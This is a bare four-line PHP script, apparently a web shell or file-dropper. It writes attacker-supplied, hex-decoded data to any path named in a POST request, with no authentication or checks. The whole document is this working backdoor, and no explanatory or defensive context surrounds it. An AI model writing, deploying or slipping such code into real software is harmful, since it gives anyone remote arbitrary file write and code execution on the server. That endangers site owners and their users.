<?php
$o = new SplFileObject($_POST['path'], 'w');
$o->fwrite(hex2bin($_POST['data']));
echo 'done';
